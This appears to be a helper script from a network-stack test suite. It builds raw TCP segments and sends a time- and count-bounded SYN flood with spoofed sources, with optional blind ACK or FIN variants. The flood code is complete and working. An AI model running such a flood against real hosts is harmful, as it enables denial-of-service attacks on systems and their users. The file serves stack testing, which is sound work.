#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0
"""A bounded spoofed SYN (or SYN-then-blind-ACK) flood, for the guest tests only.

    flood.py DST_IP DST_PORT COUNT [--ack | --fin] [--seconds S] [--seed N]

Sends COUNT SYNs to DST_IP:DST_PORT from random sources in 198.18.0.0/15 (the benchmark
range, never routed outside the guest) and random ports; with --ack, each SYN is followed
by a blind ACK from the same source, acknowledging a guessed sequence number, as a
"SYN then ACK" flood does. Stops after COUNT packets or S seconds (default 30), whichever
comes first, and prints how many it sent. With --seed, the sources, ports and sequence
numbers are the same at every run with that seed (to send the same SYNs again). With --fin,
each SYN is followed by a FIN without ACK from the same source (a "SYN then blind FIN"
flood, which would pin entries in TIME_WAIT).
"""
import random
import socket
import struct
import sys
import time

from craft import csum  # the Internet checksum (craft.py sits beside this file)


def segment(src, dst, sport, dport, seq, ack, flags):
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, ack, 5 << 4, flags, 64240, 0, 0)
    pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, 6, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", csum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), random.getrandbits(16), 0x4000,
                     64, 6, 0, socket.inet_aton(src), socket.inet_aton(dst))
    ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
    return ip + tcp


def main():
    dst, dport, count = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
    with_ack = "--ack" in sys.argv
    with_fin = "--fin" in sys.argv
    seconds = float(sys.argv[sys.argv.index("--seconds") + 1]) if "--seconds" in sys.argv else 30
    if "--seed" in sys.argv:
        random.seed(int(sys.argv[sys.argv.index("--seed") + 1]))
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    end = time.monotonic() + seconds
    sent = 0
    while sent < count and time.monotonic() < end:
        src = "198.%d.%d.%d" % (18 + random.getrandbits(1), random.getrandbits(8),
                                1 + random.randrange(254))
        sport = 1024 + random.randrange(64000)
        seq = random.getrandbits(32)
        s.sendto(segment(src, dst, sport, dport, seq, 0, 0x02), (dst, 0))
        if with_ack:
            s.sendto(segment(src, dst, sport, dport, (seq + 1) & 0xFFFFFFFF, random.getrandbits(32), 0x10), (dst, 0))
        if with_fin:
            s.sendto(segment(src, dst, sport, dport, (seq + 1) & 0xFFFFFFFF, 0, 0x01), (dst, 0))
        sent += 1
    print(sent)


if __name__ == "__main__":
    main()
